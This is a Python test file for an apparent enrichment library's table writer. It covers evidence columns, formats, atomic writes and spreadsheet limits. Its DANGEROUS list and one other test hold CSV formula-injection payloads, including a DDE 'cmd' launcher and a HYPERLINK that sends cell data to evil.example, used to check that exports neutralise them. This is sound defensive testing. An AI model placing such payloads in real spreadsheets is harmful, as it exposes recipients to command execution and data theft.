"""Tables out: originals as they were, values with their evidence, and nothing that runs."""

from __future__ import annotations

import csv
import itertools
import json
import re
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from llm_common.enrichment.models import Cell, Column, EnrichedRow, Evidence, RowStatus
from llm_common.enrichment.tables import open_table, write_table
from llm_common.enrichment.tables.cells import guarded, sheet_text
from llm_common.enrichment.tables.layout import EVIDENCE, SHEET, layout
from llm_common.errors import InvalidInputError
from tests import children
from tests.support import UNHURRIED, data_dir

FORMATS = [".csv", ".tsv", ".xlsx", ".parquet", ".json", ".jsonl"]
PHONE, AGE, SEATS = (
    Column(name="phone", type="phone"),
    Column(name="age", type="number"),
    Column(name="seats", type="integer"),
)
FOUND = Cell(
    value="+1 916 555 0100",
    verdict="verified",
    quote="Call us: +1 916 555 0100",
    url="https://lee.example/contact",
    confidence=0.91239,
    cost_usd=Decimal("0.01") / 3,
    conflicts=(
        Evidence(value="+1 916 555 0199", url="https://old.example", dated="2019-01-01"),
        Evidence(value="none", reason="the quote is on no page"),
    ),
)


def row(
    original: dict[str, Any], cells: dict[str, Cell] | None = None, **fields: Any
) -> EnrichedRow:
    found = cells or {}
    given = {"status": RowStatus.COMPLETED, "row_id": "r1", **fields}
    values = {name: cell.value for name, cell in found.items()}
    return EnrichedRow(original_data=original, cells=found, enriched_columns=values, **given)


def rows_of(path: Path, **options: Any) -> list[dict[str, Any]]:
    return [row for batch in open_table(path, **options).batches() for row in batch]


ROWS = [
    row({"name": "Alex Lee", "state": "CA"}, {"phone": FOUND, "age": Cell(value=44.5)}),
    row({"name": "Bo", "state": None}, status=RowStatus.SKIPPED, error="key column state is empty"),
]


def test_evidence_as_columns(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert write_table(path, ["name", "state"], iter(ROWS), [PHONE, AGE]) == 2
    first, second = rows_of(path)
    assert list(first) == [
        "name", "state", "phone", "age",
        *(f"phone {part}" for part in EVIDENCE), *(f"age {part}" for part in EVIDENCE),
        "enrichment status", "enrichment error",
    ]  # fmt: skip
    assert first["phone"] == "+1 916 555 0100"
    assert first["phone quote"] == "Call us: +1 916 555 0100"
    assert first["phone source"] == "https://lee.example/contact"
    assert first["phone verdict"] == "verified"
    assert first["phone confidence"] == "0.9124"
    assert first["phone cost_usd"] == "0.003333333333"
    assert first["phone conflicts"] == "'+1 916 555 0199 (https://old.example); none"
    assert first["enrichment status"] == "completed"
    assert (second["phone"], second["phone verdict"]) == (None, "missing")
    assert second["enrichment error"] == "key column state is empty"


def test_evidence_as_a_sheet(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, ["name", "state"], ROWS, [PHONE, AGE])
    table = open_table(path)
    assert table.columns == (
        "name", "state", "phone", "age", "enrichment status", "enrichment error"
    )  # fmt: skip
    assert rows_of(path)[0]["age"] == 44.5
    lines = rows_of(path, sheet="Evidence")
    assert list(lines[0]) == list(SHEET)
    assert [(one["row"], one["column"], one["role"], one["value"]) for one in lines] == [
        (2, "phone", "value", "+1 916 555 0100"),
        (2, "phone", "conflict", "+1 916 555 0199"),
        (2, "phone", "conflict", "none"),
        (2, "age", "value", "44.5"),
        (3, "phone", "value", None),
        (3, "age", "value", None),
    ]
    assert (lines[0]["cost_usd"], lines[0]["confidence"]) == (0.003333333333, 0.9124)
    assert (lines[1]["dated"], lines[2]["reason"]) == ("2019-01-01", "the quote is on no page")


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".xlsx"])
def test_evidence_as_json(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    write_table(path, ["name"], ROWS, [PHONE], evidence="json")
    first, second = rows_of(path)
    told = json.loads(first["evidence"])
    assert told["phone"]["cost_usd"] == "0.003333333333"
    assert told["phone"]["conflicts"][0]["dated"] == "2019-01-01"
    assert json.loads(second["evidence"]) == {}


def test_whole_rows_as_json(tmp_path: Path) -> None:
    write_table(tmp_path / "out.json", ["name", "state"], ROWS, [PHONE])
    write_table(tmp_path / "out.jsonl", ["name", "state"], ROWS, [PHONE])
    whole = json.loads((tmp_path / "out.json").read_text())
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    assert whole == [json.loads(line) for line in lines]
    assert [EnrichedRow.model_validate(one) for one in whole] == ROWS


@pytest.mark.parametrize("suffix", FORMATS)
def test_no_evidence_if_none_is_wanted(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    write_table(path, ["name", "state"], ROWS, [PHONE], evidence="none")
    if suffix.startswith(".json"):
        text = path.read_text()
        first = json.loads(text if suffix == ".json" else f"[{text.splitlines()[0]}]")[0]
    else:
        first = rows_of(path)[0]
    assert first == {
        "name": "Alex Lee", "state": "CA", "phone": "+1 916 555 0100",
        "enrichment status": "completed", "enrichment error": None,
    }  # fmt: skip


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_table_without_rows(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    assert write_table(path, ["name"], [], [PHONE]) == 0
    if suffix.startswith(".json"):
        assert path.read_text() == ("[]\n" if suffix == ".json" else "")
    else:
        assert open_table(path).count == 0
        assert open_table(path).columns[:2] == ("name", "phone")


def test_names_that_are_taken() -> None:
    form = layout(["Phone", "phone (found)", "age", "enrichment error"], [PHONE, AGE], "columns")
    assert form.header[4:6] == ("phone (found 2)", "age (found)")
    assert "phone (found 2) quote" in form.header
    assert form.header[-2:] == ("enrichment status", "enrichment error (found)")
    assert len(form.header) == len(form.types) == len(form.values(ROWS[0]))


@pytest.mark.parametrize("suffix", FORMATS[:4])
def test_a_column_that_is_there_stays_as_it_was(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    write_table(path, ["phone"], [row({"phone": "old"}, {"phone": FOUND})], [PHONE])
    (first,) = rows_of(path)
    assert (first["phone"], first["phone (found)"]) == ("old", "+1 916 555 0100")


DANGEROUS = [
    "=1+1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1",
    '=HYPERLINK("http://evil.example?"&A1)', "＝1+1", "-see note", "\ufeff=1", "+1 555 =1", "-",
    "--",
]  # fmt: skip
HARMLESS = [
    "+1 (916) 555-0100", "+49.30.901820", "-12.5", "-1,000", "+1 916 555 0100 ext. 12", "1e5",
    "a=b", "x@example.org", "https://a.example/?q=-1", "", "'quoted", "-1.5e-07", "(916) 555-0100",
]  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_is_no_formula_in_csv(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_left_alone_in_csv(text: str) -> None:
    assert guarded(text) == text


def test_only_what_was_found_is_guarded_in_csv(tmp_path: Path) -> None:
    path, evil = tmp_path / "out.csv", "=cmd|'/C calc'!A0"
    cell = Cell(value=evil, quote=evil, url=evil, reason=evil, conflicts=(Evidence(value=evil),))
    write_table(path, ["name"], [row({"name": evil}, {"phone": cell}, error=evil)], [PHONE])
    (first,) = rows_of(path)
    assert first["name"] == evil
    found = ["phone", "phone quote", "phone source", "phone reason", "phone conflicts"]
    assert {first[name] for name in [*found, "enrichment error"]} == {f"'{evil}"}
    write_table(path, ["name"], [row({"name": "x"}, {"phone": cell})], [PHONE], evidence="json")
    assert rows_of(path)[0]["evidence"].startswith("{")


def test_a_workbook_holds_neither_formulas_nor_links(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    texts = [*DANGEROUS[:4], "https://a.example", "mailto:a@b.example", "internal:Sheet2!A1", "007"]
    rows = [row({"name": text}, {"phone": Cell(value=text, quote=text)}) for text in texts]
    write_table(path, ["name"], rows, [PHONE])
    assert [(one["name"], one["phone"]) for one in rows_of(path)] == [(t, t) for t in texts]
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "worksheets/" in name]
    assert len(sheets) == 2
    assert not any(re.search(rb"<f[ >]|<hyperlink", sheet) for sheet in sheets)


def test_numbers_stay_numbers_and_long_ones_stay_whole(tmp_path: Path) -> None:
    original = {"n": -5, "x": 1.5, "ok": True, "long": 12345678901234567890, "zip": "00501"}
    for suffix in (".xlsx", ".parquet"):
        path = tmp_path / f"out{suffix}"
        write_table(path, list(original), [row(original)], [SEATS], evidence="none")
        (first,) = rows_of(path)
        assert {name: first[name] for name in original} == {
            **original, "long": "12345678901234567890"
        }  # fmt: skip


def test_types_of_a_parquet_file(tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    cells = {"phone": FOUND, "age": Cell(value=44), "seats": Cell(value=3)}
    mixed = [{"id": 2**60, "mix": 1, "x": 1}, {"id": 7, "mix": "one", "x": 0.5, "tags": ["a"]}]
    columns = ["id", "mix", "x", "tags", "void"]
    rows = [row(mixed[0], cells), row(mixed[1], {"seats": Cell(value="many")})]
    write_table(path, columns, rows, [PHONE, AGE, SEATS])
    frame = pl.read_parquet(path)
    assert frame.select("id", "mix", "x", "tags", "void").rows() == [
        (2**60, "1", 1.0, None, None), (7, "one", 0.5, '["a"]', None)
    ]  # fmt: skip
    assert dict(zip(frame.columns, frame.dtypes, strict=True)) | {
        "phone": pl.String, "age": pl.Float64, "seats": pl.String,
        "phone cost_usd": pl.Decimal(38, 12), "phone confidence": pl.Float64,
    } == frame.schema  # fmt: skip
    assert frame["phone cost_usd"].to_list() == [Decimal("0.003333333333"), 0]


def test_text_that_is_too_long_for_a_cell_ends_in_an_ellipsis(tmp_path: Path) -> None:
    path, text = tmp_path / "out.xlsx", "x" * 40_000
    write_table(path, ["name"], [row({"name": text})], [], evidence="none")
    assert rows_of(path)[0]["name"] == "x" * 32_766 + "…"
    assert sheet_text("x" * 32_767) == "x" * 32_767
    pairs = sheet_text("😀" * 16_384)
    assert pairs == "😀" * 16_383 + "…"


class Many(Sequence[EnrichedRow]):
    """Rows that are counted, and break if they are read."""

    def __init__(self, count: int) -> None:
        self.count = count

    def __len__(self) -> int:
        return self.count

    def __getitem__(self, index: Any) -> Any:
        raise AssertionError("read, though there are too many")


def test_more_than_a_sheet_holds(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with pytest.raises(InvalidInputError, match=r"holds 1,048,575 rows and a header.*\.parquet"):
        write_table(path, ["name"], Many(1_048_576), [PHONE])
    with pytest.raises(InvalidInputError, match="holds 16,384 columns, not 16,387"):
        write_table(path, [f"c{n}" for n in range(16_384)], [], [PHONE], evidence="none")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", FORMATS)
def test_rows_that_break_off_leave_the_old_file(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    path.write_text("old")

    def broken() -> Iterator[EnrichedRow]:
        yield from ROWS
        raise ConnectionError("gone")

    with pytest.raises(ConnectionError):
        write_table(path, ["name"], broken(), [PHONE])
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]
    write_table(path, ["name"], ROWS, [PHONE])
    assert path.read_bytes()[:3] != b"old"
    assert list(tmp_path.iterdir()) == [path]


async def test_a_killed_writer_leaves_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old")
    code = f"""
from itertools import repeat
from tests.enrichment.test_tables_writing import PHONE, ROWS, write_table

def rows():
    yield from ROWS * 5000
    print("under way", flush=True)
    yield from repeat(ROWS[0])

write_table({str(path)!r}, ["name"], rows(), [PHONE])
"""
    async with children.killed(code) as process:
        assert process.stdout is not None
        assert await process.stdout.readline() == b"under way\n"
    assert path.read_text() == "old"


def test_a_link_to_a_file_stays_a_link(tmp_path: Path) -> None:
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old")
    link.symlink_to(real)
    write_table(link, ["name"], ROWS, [], evidence="none")
    assert link.is_symlink()
    assert rows_of(real)[0]["name"] == "Alex Lee"


def test_paths_and_placements_that_are_none(tmp_path: Path) -> None:
    cases: list[tuple[Path, Any, str]] = [
        (tmp_path / "out.txt", None, "end it in .csv, .tsv, .xlsx"),
        (tmp_path / "out.xls", None, "end it in"),
        (tmp_path / "no" / "out.csv", None, "there is no folder"),
        (tmp_path / "out.csv", "sheet", ".csv has no sheets"),
        (tmp_path / "out.csv", "colums", "'colums'"),
    ]
    for path, evidence, says in cases:
        with pytest.raises(InvalidInputError, match=re.escape(says)):
            write_table(path, ["name"], ROWS, [PHONE], evidence=evidence)
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(InvalidInputError, match="is a folder"):
        write_table(tmp_path / "dir.csv", ["name"], ROWS, [PHONE])


@pytest.mark.parametrize("suffix", FORMATS[:4])
def test_a_real_table_there_and_back(tmp_path: Path, suffix: str) -> None:
    source = open_table(data_dir("people") / "legislators.csv")
    path = tmp_path / f"out{suffix}"
    rows = (row(data, {"phone": FOUND}) for batch in source.batches() for data in batch)
    assert write_table(path, source.columns, rows, [PHONE]) == source.count
    before = [one for batch in source.batches() for one in batch]
    after = [{name: one[name] for name in source.columns} for one in rows_of(path)]
    assert after == before


ANY = st.text(st.characters(exclude_characters="\0")) | st.sampled_from(
    ["\ud800", '"', '"a', "a\r\nb", "\r", "\n", ";", "_x0041_", "_x000D_", "\x1b[0m", "\ufffe", " ",
     "é\u0301", "</t>", "a\tb", *DANGEROUS]
)  # fmt: skip


def readable(text: str, suffix: str) -> str | None:
    """Return a text as it should come back."""
    whole = re.sub("[\ud800-\udfff]", "\ufffd", text)
    if suffix == ".xlsx":
        whole = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", whole.replace("\r\n", "\n"))
        whole = whole.replace("\r", "\n")
    return whole or None


@pytest.mark.parametrize("suffix", FORMATS[:4])
@UNHURRIED
@given(texts=st.lists(st.tuples(ANY, ANY), min_size=1, max_size=8))
def test_any_text_comes_back(
    tmp_path_factory: pytest.TempPathFactory, suffix: str, texts: list[tuple[str, str]]
) -> None:
    path = tmp_path_factory.mktemp("out") / f"out{suffix}"
    rows = [row({"a": a, "z": "end"}, {"phone": Cell(value=b)}) for a, b in texts]
    write_table(path, ["a", "z"], rows, [PHONE])
    got = [(one["a"], one["phone"]) for one in rows_of(path)]
    for (a, b), (first, second) in itertools.zip_longest(texts, got):
        assert first == readable(a, suffix)
        guard = "'" if suffix in {".csv", ".tsv"} and guarded(b).startswith("'") else ""
        expected = readable(b, suffix)
        assert second == (expected if not guard or b.startswith("'") else f"'{expected}")


@UNHURRIED
@given(st.lists(st.tuples(ANY, ANY), max_size=8))
def test_a_csv_is_a_csv_to_others_too(
    tmp_path_factory: pytest.TempPathFactory, texts: list[tuple[str, str]]
) -> None:
    path = tmp_path_factory.mktemp("out") / "out.csv"
    rows = [row({"a": a, "b": b}) for a, b in texts]
    write_table(path, ["a", "b"], rows, [], evidence="none")
    with path.open(encoding="utf-8", newline="") as file:
        got = [(one["a"], one["b"]) for one in csv.DictReader(file, strict=True)]
    assert got == [(readable(a, "") or "", readable(b, "") or "") for a, b in texts]
